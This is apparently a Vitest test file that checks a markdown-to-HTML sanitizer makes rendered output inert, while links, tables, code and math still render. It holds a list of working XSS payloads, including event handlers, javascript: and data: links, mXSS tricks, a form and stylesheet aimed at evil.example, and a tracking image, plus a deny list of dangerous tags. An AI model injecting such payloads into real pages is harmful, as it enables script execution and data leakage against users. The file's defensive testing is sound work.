// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { createSanitizer } from "./sanitize";
import { createMarkdownRenderer } from "./render";

const render = createMarkdownRenderer(createSanitizer(window));

function dom(markdown: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = render(markdown);
  return div;
}

// Inert: nothing in the tree can run script, navigate to script, submit, frame or restyle.
function expectInert(root: HTMLElement): void {
  const forbidden = "script, iframe, frame, object, embed, form, style, link, meta, base, svg, math, input, button";
  expect(root.querySelectorAll(forbidden).length, root.innerHTML).toBe(0);
  for (const el of Array.from(root.querySelectorAll("*"))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith("on"), `${attr.name} on <${el.tagName}>`).toBe(false);
      expect(["style", "action", "formaction", "xlink:href", "srcset"]).not.toContain(attr.name);
      if (["href", "src"].includes(attr.name)) {
        const value = attr.value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
        expect(value.startsWith("javascript:"), attr.value).toBe(false);
        expect(value.startsWith("vbscript:"), attr.value).toBe(false);
        expect(value.startsWith("data:text"), attr.value).toBe(false);
      }
    }
  }
}

const XSS: [string, string][] = [
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["markdown javascript link", "[a](javascript:alert(1))"],
  ["markdown javascript link, upper case", "[a](JaVaScRiPt:alert(1))"],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["svg onload", "<svg onload=alert(1)></svg>"],
  ["iframe", '<iframe src="https://example.com"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["data: html link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ["data: html markdown link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["math xlink:href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ["style @import", "<style>@import 'https://evil.example/x.css';</style>"],
  ["form action", '<form action="https://evil.example"><input name=q><button>go</button></form>'],
  ["event handler attributes", '<div onclick="alert(1)" onmouseover="alert(1)">hover</div>'],
  ["entity-obfuscated javascript:", '<a href="jav&#x61;script:alert(1)">x</a>'],
  ["entity-obfuscated markdown link", "[x](jav&#x61;script:alert(1))"],
  ["tab inside javascript:", '<a href="java\tscript:alert(1)">x</a>'],
  ["script tag", "<script>alert(1)</script>"],
  ["object data", '<object data="javascript:alert(1)"></object>'],
  ["style attribute", '<p style="position:fixed;inset:0">cover</p>'],
  ["details ontoggle", "<details open ontoggle=alert(1)>x</details>"],
  ["mXSS noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["base href", '<base href="javascript:alert(1)//">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["remote image", "![t](https://tracker.example/p.png?q=secret)"],
];

describe("markdown sanitizer", () => {
  for (const [name, input] of XSS) {
    it(`makes inert: ${name}`, () => expectInert(dom(input)));
  }

  it("drops a remote image's source but keeps inline pictures", () => {
    expect(dom("![t](https://tracker.example/p.png)").querySelector("img")?.hasAttribute("src")).toBe(false);
    const inline = dom("![t](data:image/png;base64,iVBORw0KGgo=)").querySelector("img");
    expect(inline?.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
  });

  it("opens links in a new tab without an opener or referrer", () => {
    const a = dom("[docs](https://example.com/a)").querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.com/a");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("renders GFM tables and fenced code with its language", () => {
    const root = dom("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n");
    expect(root.querySelectorAll("table td").length).toBe(2);
    expect(root.querySelector("pre code")?.className).toBe("language-python");
    expect(root.querySelector("pre code")?.textContent).toBe("print(1)\n");
  });

  it("marks math for KaTeX as text only, inline and display", () => {
    const root = dom("Euler: $e^{i\\pi}+1=0$ and\n\n$$\\int_0^1 x\\,dx$$\n");
    const math = Array.from(root.querySelectorAll("[data-math]"));
    expect(math.map((m) => m.getAttribute("data-math"))).toEqual(["inline", "display"]);
    expect(math[0]!.textContent).toBe("e^{i\\pi}+1=0");
    expect(math[1]!.textContent).toBe("\\int_0^1 x\\,dx");
    expect(dom("costs $5 and $6 today").querySelectorAll("[data-math]").length).toBe(0);
  });

  it("TeX cannot smuggle markup through a math placeholder", () => {
    const root = dom("$<img src=x onerror=alert(1)>$");
    expectInert(root);
    expect(root.querySelector("img")).toBeNull();
  });
});
